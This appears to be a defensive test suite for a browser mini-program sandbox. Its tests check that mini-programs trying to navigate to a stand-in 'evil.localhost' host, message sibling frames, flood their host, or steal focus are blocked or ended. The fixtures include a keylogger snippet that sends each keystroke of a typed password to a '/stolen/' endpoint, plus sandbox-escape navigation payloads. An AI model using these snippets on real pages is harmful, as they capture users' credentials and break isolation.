// Mini-programs that try to leave, to listen, to flood and to steal (container.md §1; threats T025, T026, T056, T115).
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { appOf, type Constellation, openConstellation, PAGE } from './constellation.ts';

/** What a mini-program runs to leave its origin. */
const LEAVERS = {
  foreign: (url: string) => `location.assign(${JSON.stringify(url)})`,
  reopen: (url: string) => `open(${JSON.stringify(url)}, '_self')`,
  refresh: (url: string) => `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${url}">'`,
  sibling: (_: string, sibling: string) => `location.assign(${JSON.stringify(sibling)})`,
  data: () => `location.assign('data:text/html,<script>parent.postMessage({davit:1,hello:{nonce:1}},"*")</script>')`,
  blob: () =>
    `location.assign(URL.createObjectURL(new Blob(['<script src="/bridge.js"></script>'], { type: 'text/html' })))`,
  blank: () => `location.assign('about:blank')`,
  submit: (url: string) =>
    `const form = document.createElement('form'); form.action = ${JSON.stringify(url)}; document.body.append(form); form.submit()`,
  picture: () => `location.assign('/picture.svg')`,
  missing: () => `location.assign('/nowhere')`,
} as const;
/** Allowed by its hash; does something only in a frame inside the mini-program. */
const NESTED = `if (frameElement) {
  globalThis.got = 0;
  onmessage = () => { got += 1; };
  parent.parent.postMessage({ davit: 1, hello: { sdk: 'x', nonce: 'nested' } }, '*');
}`;
const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg"/>';

let world: Constellation;
let page: Page;
let foreignRequests: string[];
const foreign = createServer((request, response) => {
  foreignRequests.push(request.url ?? '');
  response.setHeader('content-type', 'text/html');
  response.end('<script>parent.postMessage({davit:1,hello:{sdk:"x",nonce:"n"}},"*")</script>');
});

beforeAll(async () => {
  await new Promise<void>((listening) => foreign.listen(0, '127.0.0.1', listening));
  const leavers = Object.keys(LEAVERS).map((name) => [name, appOf({ '/picture.svg': PICTURE })]);
  world = await openConstellation(() => ({
    food: appOf({
      '/index.html': `${PAGE}<script>${NESTED}</script>`,
      '/mute.html': '<script>onload = () => setTimeout(() => location.reload(), 200)</script>',
    }),
    bank: appOf(),
    ...Object.fromEntries(leavers),
  }));
});
afterAll(async () => {
  await world.close();
  foreign.closeAllConnections();
  foreign.close();
});
beforeEach(async () => {
  foreignRequests = [];
  page = await world.openHost();
});
afterEach(() => page.context().close());

const foreignUrl = () => `http://evil.localhost:${(foreign.address() as AddressInfo).port}/`;
const endReason = (appId: string) =>
  page.evaluate(
    (name) =>
      harness.log.find(({ event, fields }) => event === 'instance.ended' && fields.app_id === name)?.fields.reason,
    appId,
  );
const untilEnded = (appId: string) =>
  page.waitForFunction(
    (name) => harness.log.some(({ event, fields }) => event === 'instance.ended' && fields.app_id === name),
    appId,
    {
      timeout: 15_000,
    },
  );
const violations = () =>
  page.evaluate(() =>
    harness.log.filter(({ event }) => event === 'bridge.violation').map(({ fields }) => [fields.app_id, fields.what]),
  );
describe('a mini-program that leaves its own origin', () => {
  test('T025 is ended, whatever it navigates to, and nothing is fetched there', async () => {
    const names = Object.keys(LEAVERS) as (keyof typeof LEAVERS)[];
    await world.launch(page, 'food');
    for (const name of names) {
      const frame = await world.launch(page, name);
      await frame.evaluate(
        `setTimeout(() => { ${LEAVERS[name](foreignUrl(), `${world.server.appOrigin('food')}/`)} }, 0)`,
      );
    }
    for (const name of names) {
      await untilEnded(name);
      expect([name, await endReason(name)]).toEqual([name, 'navigated']);
    }
    expect(foreignRequests).toEqual([]);
    expect(await page.evaluate(() => harness.container.instances.map(({ app }) => app.appId))).toEqual(['food']);
  });

  test('T123 cannot open a window or move the host', async () => {
    const food = await world.launch(page, 'food');
    const outcome = await food.evaluate((url) => {
      const attempts = { window: open(url) === null, top: '', parent: '' };
      for (const name of ['top', 'parent'] as const) {
        try {
          (globalThis[name] as Window).location.href = url;
          attempts[name] = 'moved';
        } catch (error) {
          attempts[name] = (error as Error).name;
        }
      }
      return attempts;
    }, foreignUrl());
    expect(outcome).toEqual({ window: true, top: 'SecurityError', parent: 'SecurityError' });
    await page.waitForTimeout(200);
    expect(foreignRequests).toEqual([]);
    expect(page.url()).toBe(world.server.hostUrl);
    expect(await food.evaluate(() => bridge.call('storage.keys'))).toMatchObject({ result: { keys: [] } });
  });
});

describe('a mini-program beside another', () => {
  test('T056 cannot reach its sibling, nor get a port from its gate', async () => {
    const food = await world.launch(page, 'food');
    const bank = await world.launch(page, 'bank');
    const result = await bank.evaluate(async () => {
      const host = top as Window;
      let readable = 0;
      let answers = 0;
      addEventListener('message', () => {
        answers += 1;
      });
      for (let at = 0; at < host.length; at += 1) {
        const gate = host[at] as Window;
        for (const target of [gate, ...(gate.length > 0 ? [gate[0] as Window] : [])]) {
          if (target === self || target === parent) continue;
          try {
            readable += target.document === undefined ? 0 : 1;
          } catch {
            // Another origin: what should happen.
          }
          target.postMessage({ davit: 1, hello: { sdk: 'x', nonce: 'n' } }, '*');
        }
      }
      await new Promise((done) => setTimeout(done, 300));
      return { readable, answers };
    });
    expect(result).toEqual({ readable: 0, answers: 0 });
    // The gate of `food` told the host who it was; `food` itself is not to blame.
    expect(await violations()).toEqual([['bank', 'stray']]);
    await page.evaluate(() => harness.launch('food'));
    expect(await food.evaluate(() => bridge.call('storage.keys'))).toMatchObject({ result: { keys: [] } });
  });

  test('T056 cannot give orders to the launch page of its sibling, which takes them from its own gate only', async () => {
    const bank = await world.launch(page, 'bank');
    const launchPage = `${world.server.appOrigin('food')}/.container/launch.html`;
    await page.evaluate(() => harness.container.prepare('food'));
    await expect.poll(() => page.frames().map((frame) => frame.url())).toContain(launchPage);
    await page
      .frames()
      .find((frame) => frame.url() === launchPage)
      ?.waitForLoadState();
    const result = await bank.evaluate(async () => {
      const host = top as Window;
      let reached = 0;
      const heard: unknown[] = [];
      for (let at = 0; at < host.length; at += 1) {
        const gate = host[at] as Window;
        if (gate === parent || gate.length === 0) continue;
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => heard.push(data);
        (gate[0] as Window).postMessage({ davit: 1, launch: 1 }, '*', [port2]);
        reached += 1;
      }
      await new Promise((done) => setTimeout(done, 500));
      return { reached, heard };
    });
    expect(result).toEqual({ reached: 1, heard: [] });
    const food = await world.launch(page, 'food');
    expect(await food.evaluate(() => bridge.call('storage.keys'))).toMatchObject({ result: { keys: [] } });
  });

  test('T026 a frame inside the mini-program is not loaded and gets nothing', async () => {
    const food = await world.launch(page, 'food');
    const before = world.server.requests.length;
    await food.evaluate(`setTimeout(async () => {
      for (const src of ['/', 'data:text/html,x', '']) {
        const frame = document.createElement('iframe');
        if (src) frame.src = src;
        document.body.append(frame);
      }
      // An empty document is of this origin and may run its scripts; what it says to the gate does not come from the app's frame.
      const script = frames[2].document.createElement('script');
      script.textContent = ${JSON.stringify(NESTED)};
      frames[2].document.body.append(script);
      await new Promise((done) => setTimeout(done, 400));
      await bridge.call('ui.toast', { text: 'ports: ' + bridge.ports.length + ', nested: ' + frames[2].got });
    }, 0)`);
    await page.waitForFunction(() => harness.toasts.length > 0);
    expect(await page.evaluate(() => harness.toasts)).toEqual(['ports: 1, nested: 0']);
    expect(await violations()).toEqual([['food', 'stray']]);
    expect(world.server.requests.slice(before).filter((request) => !request.startsWith('localhost/'))).toEqual([]);
  });
});

// How late the host may be meanwhile is promised and measured in conformance/isolation/driven.
describe('a mini-program that floods', () => {
  test('T115 its parent for three seconds, is ended', async () => {
    const food = await world.launch(page, 'food');
    const sent = await food
      .evaluate(() => {
        let count = 0;
        for (const end = performance.now() + 3000; performance.now() < end; count += 1)
          parent.postMessage({ noise: count }, '*');
        return count;
      })
      .catch(() => -1);
    await untilEnded('food');
    expect(await endReason('food')).toBe('flood');
    expect(sent === -1 || sent > 10_000).toBe(true);
    expect(await page.evaluate(() => harness.strays)).toEqual([]);
  });

  test('T115 the host itself through `top`, is ended at once', async () => {
    const food = await world.launch(page, 'food');
    await food
      .evaluate(() => {
        for (const end = performance.now() + 3000; performance.now() < end; ) top?.postMessage({ noise: 1 }, '*');
      })
      .catch(() => {});
    await untilEnded('food');
    expect(await endReason('food')).toBe('flood');
    expect(await page.evaluate(() => harness.strays)).toEqual([]);
  });

  test('T115 its port, is ended', async () => {
    const food = await world.launch(page, 'food');
    await food
      .evaluate(async () => {
        for (let at = 0; at < 40_000; at += 1) {
          bridge.port.postMessage({ jsonrpc: '2.0', id: `f${at}`, method: 'storage.keys', params: {} });
          if (at % 1000 === 0) await new Promise((done) => setTimeout(done, 100));
        }
      })
      .catch(() => {});
    await untilEnded('food');
    expect(await endReason('food')).toBe('flood');
  });

  test('T115 with what is too big or is not JSON-RPC, is ended', async () => {
    const food = await world.launch(page, 'food');
    await food
      .evaluate(async () => {
        const cycle: { self?: unknown } = {};
        cycle.self = cycle;
        for (const message of ['x'.repeat(2 * 1024 * 1024), cycle, { hello: 'there' }, 12n]) {
          bridge.port.postMessage(message);
          await new Promise((done) => setTimeout(done, 1100));
        }
      })
      .catch(() => {});
    await untilEnded('food');
    expect(await endReason('food')).toBe('flood');
  });

  test('with documents, is ended for loading itself again', async () => {
    const food = await world.launch(page, 'food');
    await food
      .evaluate(async () => {
        for (let at = 0; at < 4; at += 1) {
          void bridge.hello();
          await new Promise((done) => setTimeout(done, 20));
        }
      })
      .catch(() => {});
    await untilEnded('food');
    expect(await endReason('food')).toBe('documents');
  });

  test('with documents that say nothing any more, is ended for the same', async () => {
    const food = await world.launch(page, 'food');
    await food.evaluate(() => void setTimeout(() => location.assign('/mute.html'), 0));
    await untilEnded('food');
    expect(await endReason('food')).toBe('documents');
  });

  test('T115 its gate with long messages that are no hello, is ended', async () => {
    const food = await world.launch(page, 'food');
    await food.evaluate(() => {
      const long = new Uint8Array(1 << 20);
      setInterval(() => parent.postMessage(long, '*'), 20);
    });
    await untilEnded('food');
    expect(await endReason('food')).toBe('flood');
  });
});

describe('a mini-program that takes the focus', () => {
  /** Where it may send what it has got: its own origin never reaches the server. */
  const stealTo = () => `${world.server.issuer}/stolen/`;
  /** Types a password into the host while `food` runs `grab` every millisecond; answers what each side has got. */
  const typeWhile = async (grab: string, guarded: boolean) => {
    const food = await world.launch(page, 'food');
    await food.evaluate(`{
      addEventListener('keydown', ({ key }) => void fetch('${stealTo()}' + key), true);
      setInterval(() => { ${grab} }, 1);
    }`);
    if (guarded) {
      await page.evaluate(() => {
        void harness.container.prompt(() => {
          document.getElementById('password')?.focus();
          return new Promise<void>((done) => harness.release.push(done));
        });
      });
      // From the moment that the prompt stands, every key is the host's.
      await page.waitForFunction(() => harness.release.length === 1);
    } else {
      await page.locator('#password').focus();
      await page.waitForTimeout(500);
    }
    const before = world.server.requests.length;
    for (const key of 'hunter2') {
      await page.keyboard.press(key);
      await page.waitForTimeout(20);
    }
    const stolen = (): number =>
      world.server.requests.slice(before).filter((request) => request.includes('/stolen/')).length;
    // What it got it sends in its own time.
    if (!guarded) await expect.poll(stolen).toBeGreaterThan(0);
    return { stolen: stolen(), typed: await page.locator('#password').inputValue() };
  };
  const ELEMENT = "document.getElementById('field').focus()";
  const WINDOW = `window.focus(); ${ELEMENT}`;

  test('by element.focus() gets no key while a host prompt is open, and is back afterwards', async () => {
    expect(await typeWhile(ELEMENT, true)).toEqual({ stolen: 0, typed: 'hunter2' });
    await page.evaluate(() => harness.release[0]?.());
    await page.waitForFunction(() =>
      [...document.querySelectorAll('iframe')].some(({ style }) => style.display === 'block'),
    );
  });

  test('by window.focus() gets no key while a host prompt is open, and is ended', async () => {
    expect(await typeWhile(WINDOW, true)).toEqual({ stolen: 0, typed: 'hunter2' });
    expect(await endReason('food')).toBe('focus');
  });

  test('would get the keys without the shield (this is why it is there)', async () => {
    const { stolen, typed } = await typeWhile(ELEMENT, false);
    expect(stolen).toBeGreaterThan(0);
    expect(typed).not.toBe('hunter2');
  });

  test('from a sibling while it is hidden itself, is ended', async () => {
    const food = await world.launch(page, 'food');
    const bank = await world.launch(page, 'bank');
    await bank.locator('#field').click();
    await page.waitForTimeout(200);
    await food.evaluate(`addEventListener('keydown', ({ key }) => void fetch('${stealTo()}' + key), true);
      setTimeout(() => window.focus(), 0);`);
    await untilEnded('food');
    expect(await endReason('food')).toBe('focus');
    const before = world.server.requests.length;
    await page.keyboard.type('pin');
    await page.waitForTimeout(100);
    expect(world.server.requests.slice(before).filter((request) => request.includes('/stolen/'))).toEqual([]);
  });
});
